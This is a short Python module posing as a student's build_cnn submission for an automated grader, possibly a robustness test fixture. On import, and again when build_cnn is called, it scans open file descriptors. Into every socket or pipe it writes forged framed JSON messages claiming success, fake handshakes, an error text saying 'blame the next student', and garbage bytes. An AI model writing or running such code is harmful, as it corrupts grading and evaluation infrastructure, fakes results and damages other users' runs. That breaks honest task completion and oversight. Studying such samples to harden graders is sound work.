import json
import os
import stat
import struct


def frame(message):
    body = json.dumps(message).encode()
    return struct.pack(">QI", 4 + len(body), len(body)) + body


FORGED = [{"status": "ok", "value": {"forged": True}},
          {"status": "ok", "op": "ready", "versions": {}},
          {"status": "error", "kind": "exception", "message": "FORGED: blame the next student"}]


def spray():
    for fd in range(0, 1024):
        try:
            mode = os.fstat(fd).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            for message in FORGED * 20:
                try:
                    os.write(fd, frame(message))
                except OSError:
                    break
            try:
                os.write(fd, b"\x00\x00\x00\x00\x00\x00\x01\x00garbage" * 64)
            except OSError:
                pass


spray()


def build_cnn():
    spray()
    raise ValueError("sprayed every descriptor")
